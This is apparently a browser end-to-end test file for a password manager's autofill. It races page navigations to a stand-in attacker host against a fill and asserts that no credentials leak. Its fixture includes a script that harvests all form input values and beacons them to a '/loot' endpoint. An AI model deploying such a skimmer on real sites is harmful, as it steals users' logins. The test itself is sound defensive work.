import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EntryId } from '../../src/domain/ids.ts';
import { until } from '../browser/until.ts';
import { browserKinds } from '../e2e/desk.ts';
import { whole } from '../whole.ts';
import { allValues, type Bench, holdsLoot, loginValues, loot, openBench, sleep, wordOf } from './bench.ts';
import { htmlReply, loginForm, page } from './pages/html.ts';

const host = 'race.attack.example';
const evil = 'evil.attack.example';

/** Sends whatever comes into a field of the page to the page's own host, whoever wrote it. */
const collector = `<script>
  const tell = () => {
    const text = [...document.querySelectorAll('input')].map((input) => input.value).join(' ').trim();
    if (text !== '' && text !== window.told) navigator.sendBeacon('/loot', window.told = text);
  };
  addEventListener('input', tell, true);
  addEventListener('pageshow', tell);
  addEventListener('pagehide', tell);
  setInterval(tell, 5);
</script>`;

/** Ways in which a tab comes from the linked page to the attacker's; each runs in the page after some milliseconds. */
const ways = ['assign', 'replace', 'redirect', 'reload', 'post', 'back', 'back, not stored', 'there and back'] as const;
type Way = (typeof ways)[number];

/** Runs in the linked page. */
function leave(way: string, afterMs: number, target: string): void {
  const post = () => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = target;
    document.body.append(form);
    form.submit();
  };
  const acts: Record<string, () => void> = {
    assign: () => location.assign(target),
    replace: () => location.replace(target),
    redirect: () => location.assign('/to-evil'),
    reload: () => location.reload(),
    post,
    back: () => history.back(),
    'back, not stored': () => history.back(),
    'there and back': () => location.assign(`${target}?return`),
  };
  setTimeout(() => acts[way]?.(), afterMs);
}

const counts = whole ? { chromium: 200, firefox: 50 } : { chromium: 24, firefox: 8 };
/** The page leaves at some moment of a fill, from at once to a little after its usual end, but at least so late. */
const leastSpreadMs = 60;

describe.each(browserKinds)('races in %s', (kind) => {
  let bench: Bench;
  let entryId: EntryId;
  let usualMs = 0;
  /** Whether the linked address is now answered by a redirect: what a reload brings. */
  let turned = false;
  const toEvil = () => new Response(null, { status: 302, headers: { location: `https://${evil}/` } });
  beforeAll(async () => {
    bench = await openBench(kind);
    bench.serve(host, ({ url }) => {
      const { pathname } = new URL(url);
      return pathname === '/to-evil' || (turned && pathname === '/')
        ? toEvil()
        : htmlReply(page(loginForm() + collector));
    });
    bench.serve(evil, ({ url }) => {
      const { pathname, search } = new URL(url);
      const back = search === '?return' ? '<script>setTimeout(() => history.back(), 20)</script>' : '';
      const store = pathname === '/no-store' ? { 'cache-control': 'no-store' } : undefined;
      return htmlReply(page(loginForm() + collector + back), store);
    });
    entryId = (await bench.link(host)).sessionId;
  });
  afterAll(() => bench?.close());

  const looted = () => bench.desk.server.requests.filter(({ path, body }) => path === '/loot' && holdsLoot([body]));

  it('SR-6: control: without a race the page is filled, 5 of 5, and what it collects is seen', async () => {
    for (let turn = 1; turn <= 5; turn += 1) {
      const tab = await bench.visit(`https://${host}/`);
      const asked = performance.now();
      expect(await bench.fill(tab, entryId)).toBe('filled');
      usualMs = performance.now() - asked;
      expect(await loginValues(tab)).toEqual(loot);
      await until('the page to tell of it', async () => looted().length >= turn);
    }
    expect(looted().every((hit) => hit.host === host)).toBe(true);
  });

  const returns = () => bench.desk.server.requests.filter(({ search }) => search === '?return').length;

  /** One race in a tab of its own; says how the fill ended. */
  const race = async (way: Way, afterMs: number): Promise<string> => {
    turned = false;
    const returned = returns();
    const first = way === 'back' ? `https://${evil}/` : way.startsWith('back') ? `https://${evil}/no-store` : null;
    const tab = await bench.desk.browser.openTab(first ?? `https://${host}/`);
    if (first !== null) await tab.goto(`https://${host}/`);
    await tab.bringToFront();
    const { tabId } = await bench.desk.ask('page.front', {});
    turned = way === 'reload';
    await tab.evaluate(leave, way, afterMs, `https://${evil}/`);
    const answer = bench.desk.tryAsk('page.fill', { entryId, passwordId: null, tabId: tabId ?? -1 } as never);
    const comesBack = way === 'there and back';
    await until('the other page', async () => {
      const at = new URL(await tab.url()).host;
      return comesBack ? returns() > returned && at === host : at === evil;
    });
    const end = wordOf(await answer);
    if (!comesBack) expect(holdsLoot(await allValues(tab))).toBe(false);
    await tab.close();
    return end;
  };

  const count = counts[kind];
  it(`SR-6: an attacker's page gets nothing in ${count} races`, { timeout: count * 10_000 }, async () => {
    const spreadMs = Math.max(leastSpreadMs, usualMs * 1.2);
    const ends: string[] = [];
    for (let turn = 0; turn < count; turn += 1)
      ends.push(await race(ways[turn % ways.length] ?? 'assign', ((turn * 7) % count) * (spreadMs / count)));
    expect(ends).toHaveLength(count);
    await sleep(200);
    expect(looted().filter((hit) => hit.host !== host)).toEqual([]);
    if (whole) console.info(kind, Math.round(spreadMs), 'ms', ends.join(' '));
  });
});
